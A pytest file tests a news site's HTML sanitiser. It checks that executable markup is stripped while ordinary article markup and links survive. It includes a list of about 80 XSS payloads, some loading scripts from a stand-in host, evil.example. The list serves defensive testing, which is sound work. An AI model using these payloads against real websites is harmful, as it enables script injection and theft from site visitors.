"""The sanitiser: nothing executable survives, news markup does.

Every assertion about safety parses the output the way a browser would
(html5lib) and inspects the resulting elements and attributes, rather than
looking for substrings that a clever payload could avoid.
"""

import re

import bleach
import html5lib
import pytest

from articles.core.sanitize import ALLOWED_TAGS, html_to_text, sanitize_html
from articles.ingest.article_text import body_markup
from articles.models import Article
from articles.tests.factories import ArticleFactory

XSS_VECTORS = [
    # script, in every disguise
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script >",
    "<script src=https://evil.example/x.js></script>",
    "<scr\x00ipt>alert(1)</script>",
    "<p>before</p><script>alert(1)",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    "<a href=https://example.org onclick=alert(1)>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    # embedding
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # dangerous URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    # styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style><p>ok</p>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    # forms
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<isindex type=image src=1 onerror=alert(1)>',
    # comments, CDATA and raw-text elements
    "<!--<script>-->alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<select><option><img src=x onerror=alert(1)></select>",
    # attribute break-outs and mutation XSS
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<a title="x" "><img src=x onerror=alert(1)>">y</a>',
    '<a href="https://example.org/"onmouseover="alert(1)">x</a>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<p><svg><style><a id=\"</style><img src=1 onerror=alert(1)>\"></a></style></svg></p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><img src=x onerror=alert(1)></td></table>",
    "<a href=\"https://example.org\">ok</a><scr<!-- -->ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
]

SAFE_SCHEMES = {"", "http", "https", "mailto"}
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "action", "xlink:href"}
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "data", "poster", "background"}


def parse_fragment(markup):
    """Parse like a browser would when the body is dropped into a <div>."""
    return html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=False)


def url_scheme(value):
    """The scheme a browser would see: it drops tabs/newlines and strips control characters first."""
    cleaned = re.sub(r"[\t\n\r]", "", value).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
    match = re.match(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):", cleaned)
    return match.group(1).lower() if match else ""


def unsafe_parts(markup):
    """Everything in ``markup`` a browser could execute or that is outside the allow-list."""
    problems = []
    for element in parse_fragment(markup).iter():
        tag = element.tag
        if not isinstance(tag, str):  # comments and processing instructions
            problems.append(f"non-element node {tag!r}")
            continue
        if tag == "DOCUMENT_FRAGMENT":
            continue
        if tag.split("}")[-1] not in ALLOWED_TAGS:
            problems.append(f"element <{tag}>")
        for name, value in element.attrib.items():
            name = name.split("}")[-1].lower()
            if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
                problems.append(f"attribute {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and url_scheme(value) not in SAFE_SCHEMES:
                problems.append(f"{name} scheme {url_scheme(value)!r} on <{tag}>")
    return problems


def test_the_corpus_is_big_enough_to_mean_something():
    assert len(XSS_VECTORS) >= 40
    assert len(set(XSS_VECTORS)) == len(XSS_VECTORS)


def test_the_checker_itself_spots_executable_markup():
    """Guard against a checker that always says yes."""
    assert unsafe_parts("<script>alert(1)</script>")
    assert unsafe_parts('<img src="x" onerror="alert(1)">')
    assert unsafe_parts('<a href="java\tscript:alert(1)">x</a>')
    assert unsafe_parts('<p style="color:red">x</p>')
    assert unsafe_parts("<!-- hidden -->")
    assert not unsafe_parts('<p><a href="https://example.org/">x</a></p>')


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_nothing_executable_survives(vector):
    assert unsafe_parts(sanitize_html(vector)) == []


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_sanitising_is_stable_so_a_second_parse_cannot_mutate_it(vector):
    once = sanitize_html(vector)
    assert sanitize_html(once) == once
    assert unsafe_parts(sanitize_html(once)) == []


NEWS_BODY = """
<h2>Talks resume</h2>
<p>The ministers met on <time datetime="2024-03-05">Tuesday</time> in <strong>Geneva</strong>,
<em>according to</em> <a href="https://example.org/report" title="Report">the report</a>.</p>
<blockquote cite="https://example.org/quote"><p>“We will meet again,” she said.</p></blockquote>
<ul><li>First point</li><li>Second point</li></ul>
<ol start="3"><li>Third</li></ol>
<figure><img src="https://cdn.example.org/a.jpg" alt="The ministers" width="600" height="400">
<figcaption>The ministers in Geneva. Photo: Jane Doe/Agency</figcaption></figure>
<p>Write to <a href="mailto:desk@example.org">the desk</a> or read <a href="/articles/2024/">the archive</a>.</p>
"""


def test_news_markup_survives():
    cleaned = sanitize_html(NEWS_BODY)
    root = parse_fragment(cleaned)
    tags = {el.tag for el in root.iter() if isinstance(el.tag, str)}
    assert {"h2", "p", "time", "strong", "em", "a", "blockquote", "ul", "ol", "li", "figure", "img", "figcaption"} <= tags
    image = root.find(".//img")
    assert image.get("src") == "https://cdn.example.org/a.jpg"
    assert image.get("alt") == "The ministers"
    assert root.find(".//ol").get("start") == "3"
    assert root.find(".//blockquote").get("cite") == "https://example.org/quote"
    assert "“We will meet again,” she said." in cleaned
    assert unsafe_parts(cleaned) == []


def test_links_get_nofollow_noopener():
    root = parse_fragment(sanitize_html(NEWS_BODY))
    links = root.findall(".//a")
    assert [a.get("href") for a in links] == ["https://example.org/report", "mailto:desk@example.org", "/articles/2024/"]
    assert all(a.get("rel") == "nofollow noopener" for a in links)
    assert links[0].get("title") == "Report"


def test_an_editor_supplied_rel_cannot_drop_nofollow():
    root = parse_fragment(sanitize_html('<a href="https://example.org" rel="opener">x</a>'))
    assert root.find(".//a").get("rel") == "nofollow noopener"


def test_unsafe_links_keep_their_text():
    cleaned = sanitize_html('<p>See <a href="javascript:alert(1)">this</a>.</p>')
    assert html_to_text(cleaned) == "See this."


def test_disallowed_wrappers_are_unwrapped_keeping_text():
    assert sanitize_html("<div><span>Plain words</span></div>") == "Plain words"


def test_script_and_style_contents_are_dropped_not_shown_as_text():
    cleaned = sanitize_html("<p>a</p><script>var secret = 1;</script><style>p{}</style><p>b</p>")
    assert "secret" not in cleaned and "p{}" not in cleaned
    assert html_to_text(cleaned) == "a\n\nb"


def test_html_to_text_makes_one_paragraph_per_block_and_unescapes():
    text = html_to_text("<h2>Title</h2><p>One &amp; two</p><p>a &lt; b<br>next   line</p><ul><li>x</li></ul>")
    assert text == "Title\n\nOne & two\n\na < b\n\nnext line\n\nx"


def test_html_to_text_of_nothing_is_empty():
    assert html_to_text("") == ""
    assert html_to_text(None) == ""
    assert sanitize_html(None) == ""


def test_markup_built_from_plain_paragraphs_escapes_their_markup():
    body = sanitize_html(body_markup(["a < b & c > d", "  ", "<script>alert(1)</script>", "Second para"]))
    root = parse_fragment(body)
    assert [p.text for p in root.findall("p")] == ["a < b & c > d", "<script>alert(1)</script>", "Second para"]
    assert unsafe_parts(body) == []
    assert html_to_text(body) == "a < b & c > d\n\n<script>alert(1)</script>\n\nSecond para"


@pytest.mark.django_db
def test_article_save_from_the_shell_sanitises_every_html_field():
    article = ArticleFactory(
        body_html='<p onclick="x()">Hi <a href="javascript:alert(1)">there</a></p><script>alert(1)</script>',
        standfirst="<b>Bold</b> summary<script>alert(1)</script>",
        image_caption='<img src=x onerror=alert(1)>Caption',
    )
    article.refresh_from_db()
    assert unsafe_parts(article.body_html) == []
    assert article.body_html == "<p>Hi <a>there</a></p>"
    assert article.standfirst == "Bold summary"
    assert article.image_caption == "Caption"


@pytest.mark.django_db
def test_queryset_update_is_not_a_write_path_but_the_next_save_cleans_it():
    """``update()`` bypasses save(); any later save through the model cleans the body again."""
    article = ArticleFactory()
    Article.objects.filter(pk=article.pk).update(body_html="<p>x</p><script>alert(1)</script>")
    article.refresh_from_db()
    article.save()
    article.refresh_from_db()
    assert article.body_html == "<p>x</p>"


# --- the fast path: markup bleach would return unchanged skips bleach -------------

from articles.core import sanitize  # noqa: E402

_FUZZ_PIECES = [
    "word", " ", "  ", "\t", "\n", "\n\n", "Ünïcode", "“curly”", "'", '"', "—", "&", "&amp;", "&lt;", "<", ">",
    "<p>", "</p>", "<b>", "<a href=x>", "\x00", "\x0c", "\r", "\x85", "\x7f", "\ufdd0", "\U0001fffe", "\u2028",
    "example.com", "U.S.", "a.m.", "www.example.org/a?b=c", "http://x.y", "e.g.", "3.5", "mail@example.org",
    "<!--", "-->", "<script>", "javascript:alert(1)", "K.ſ", "foo.COM", "\u212a",
]


def _fuzz_inputs(count=3000, seed=7):
    import random

    rng = random.Random(seed)
    for _ in range(count):
        blocks = []
        for _ in range(rng.randint(0, 4)):
            text = "".join(rng.choice(_FUZZ_PIECES) for _ in range(rng.randint(0, 6)))
            blocks.append(text if rng.random() < 0.15 else f"<p>{text}</p>")
        yield rng.choice(["", " ", "\n"]).join(blocks)


def test_the_fast_path_returns_exactly_what_bleach_returns():
    """Random markup from pieces around every rule of the fast path: same output with or without bleach.

    Markup the fast path refuses goes to bleach itself (``sanitize_html`` returns ``_bleach``'s answer), so only
    the markup it takes is compared: bleach runs once per input it takes, not twice for every input.
    """
    taken = 0
    for markup in _fuzz_inputs():
        if sanitize._is_already_clean(markup):
            taken += 1
            assert sanitize_html(markup) == sanitize._bleach(markup), repr(markup)
    assert taken > 300  # the fast path is really exercised, not always refused


def test_the_fast_path_takes_escaped_plain_paragraphs_without_calling_bleach(monkeypatch):
    def no_bleach(cleaner, markup):
        raise AssertionError("bleach should not run")

    monkeypatch.setattr(bleach.sanitizer.Cleaner, "clean", no_bleach)  # the library's own entry, not our wrapper
    body = "<p>Ministers met in Geneva on Tuesday.</p>\n<p>“We will meet again,” she said; talks go on.</p>"
    assert sanitize_html(body) == body
    assert sanitize_html("A plain standfirst, no markup.") == "A plain standfirst, no markup."


@pytest.mark.parametrize(
    "markup",
    [
        "<p>see example.com</p>",  # linkify makes a link
        "<p>AT&amp;T</p>",  # "&" always goes through bleach
        "<p>a\rb</p>",  # html5lib turns CR into LF
        "<p>a\x0cb</p>",  # bleach turns invisible characters into "?"
        "<p>x</p><script>alert(1)</script>",
        "<p class=x>x</p>",
        "<P>x</P>",
        "<p>x</p><p>y",
        "<p><p>x</p></p>",
        "x<p>y</p>",
    ],
)
def test_anything_else_goes_through_bleach(markup):
    assert not sanitize._is_already_clean(markup)


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_xss_vector_takes_the_fast_path(vector):
    assert not sanitize._is_already_clean(vector)
    assert not sanitize._is_already_clean(f"<p>{vector}</p>")


@pytest.mark.parametrize(
    "text",
    [
        "one space between words", "two  spaces", "a\ttab", "a\u00a0no-break space", " \u00a0\t edges \t",
        "single spaces and\u00a0 a mixed run", "", "   ", "line\nbreak  kept",
    ],
)
def test_spaces_folded_is_the_regex_s_answer_whether_or_not_it_skips_it(text):
    assert sanitize.spaces_folded(text) == re.sub(r"[ \t\u00a0]+", " ", text)
